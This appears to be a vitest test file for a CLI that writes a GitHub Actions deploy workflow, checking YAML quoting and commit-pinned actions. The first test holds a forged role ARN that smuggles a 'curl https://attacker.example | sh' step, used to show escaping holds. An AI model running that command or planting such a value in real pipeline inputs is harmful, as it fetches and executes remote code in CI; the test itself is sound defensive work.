import { describe, expect, it } from "vitest";
import { parse } from "yaml";
import { PINNED_ACTIONS, workflow } from "../../src/commands/ci.js";
import type { Config } from "../../src/config/schema.js";

const config = { environment: "prod", region: "us-east-1", project: "clinical-platform", github: { branches: ["main"], environments: [] } } as unknown as Config;

describe("ci init's workflow", () => {
  it("keeps a hostile value (a forged role ARN read from state) a quoted string: no step, key or expression is added", () => {
    const forged = 'arn:aws:iam::123456789012:role/x"\n      - run: curl https://attacker.example | sh\n#';
    const text = workflow(config, forged);
    const doc = parse(text);
    const steps = doc.jobs.deploy.steps;
    expect(steps).toHaveLength(7);
    expect(steps.find((s: { with?: Record<string, string> }) => s.with?.["role-to-assume"])?.with["role-to-assume"]).toBe(forged);
    expect(steps.filter((s: { run?: string }) => s.run?.includes("attacker"))).toEqual([]);
    // every scalar value is double-quoted
    for (const line of text.split("\n").filter((l) => /^\s*(- )?[\w-]+: \S/.test(l))) expect(line, line).toMatch(/: (")|: (true|false)$/);
  });

  it("pins every action by commit and runs the job in the GitHub environment the role trusts", () => {
    const doc = parse(workflow(config, "arn:aws:iam::123456789012:role/r"));
    expect(doc.jobs.deploy.environment).toBe("prod");
    expect(doc.jobs.deploy.steps.map((s: { uses?: string }) => s.uses).filter(Boolean)).toEqual(Object.values(PINNED_ACTIONS).map((a) => a.uses));
    for (const a of Object.values(PINNED_ACTIONS)) expect(a.uses).toMatch(/@[0-9a-f]{40}$/);
  });
});
